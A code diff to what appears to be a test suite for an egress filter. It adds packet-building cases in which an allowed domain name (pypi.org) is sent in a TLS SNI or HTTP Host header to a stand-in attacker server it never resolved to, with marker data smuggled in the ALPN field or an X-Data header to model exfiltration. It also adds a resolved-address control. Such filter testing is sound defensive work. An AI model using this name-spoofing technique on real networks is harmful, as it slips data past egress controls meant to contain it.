@@ -29,6 +29,7 @@ HTTP_SERVER = "198.19.20.1"
 PROXY, PROXY_PORT = "198.19.30.1", 3128  # allowed_proxies: "198.19.30.1:3128"
 ATTACKER = "198.19.66.6"          # the attacker's own server
 ATTACKER_V6 = "2001:db8:66::6"
+RESOLVED = "198.19.66.7"          # a server pypi.org was seen resolving to (controls only)
 LINK_LOCAL = "fe80::10"
 ROUTER_LINK_LOCAL = "fe80::1"
 SOLICITED_NODE = "ff02::1:ff00:1"  # of fe80::1 / 2001:db8:1::1
@@ -107,6 +108,24 @@ def _last_hop(pkt):
     return frames.finish(pkt)
 
 
+def _spoofed_name(name, sport, dport, message):
+    """An allowed name sent to the attacker's own server, never resolved: the marker rides in
+    the message itself and in the data that would follow it."""
+    m = marker(name)
+    flow = frames.TcpFlow(CLIENT, sport, ATTACKER, dport)
+    return Attack(name, [flow.syn(), flow.ack(), flow.data(message(m)), flow.data(m * 4)],
+                  "name_address_mismatch", m, "allowed name, address no DNS answer gave for it")
+
+
+def spoof_controls():
+    """Resolved first: pypi.org's answer names RESOLVED, then a hello for pypi.org goes there.
+    (query, answer, flow packets): the answer comes from the resolver on the outside port."""
+    query = frames.dns_query(CLIENT, 45030, RESOLVER, "pypi.org", query_id=0x4530)
+    answer = frames.dns_answer(query, RESOLVED)
+    flow = frames.TcpFlow(CLIENT, 45031, RESOLVED, 443)
+    return query, answer, [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org"))]
+
+
 def attacks():
     cases = [
         _source_routed_v4("ipv4_lsrr", IPOption_LSRR(routers=[ATTACKER])),
@@ -160,6 +179,11 @@ def attacks():
     low = _tcp_decoy("decoy_ttl_1", 45012, _last_hop)
     low.reason = "ttl_too_low"
     cases += [bad, low]
+
+    cases.append(_spoofed_name("spoofed_sni_unresolved", 45013, 443,
+                               lambda m: client_hello("pypi.org", alpn=("h2", m.decode()))))
+    cases.append(_spoofed_name("spoofed_host_unresolved", 45014, 80,
+                               lambda m: frames.http_get("pypi.org", extra_headers=["X-Data: " + m.decode()])))
     return cases
 
 
@@ -200,3 +224,13 @@ def controls():
             b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n")]),
         Control("dns_to_resolver", [dns], "no source route: what the source-routed cases pretend to be"),
     ]
+
+
+def resolved_control():
+    """The spoofed-SNI attacks' control: the same name, to an address it was seen resolving to.
+    Its packets are the query and the flow (inside); the answer enters on the outside port."""
+    query, answer, flow = spoof_controls()
+    control = Control("sni_to_resolved_address", [query] + flow,
+                      "pypi.org resolved to this address first: bound, allowed")
+    control.extra["answer"] = answer
+    return control
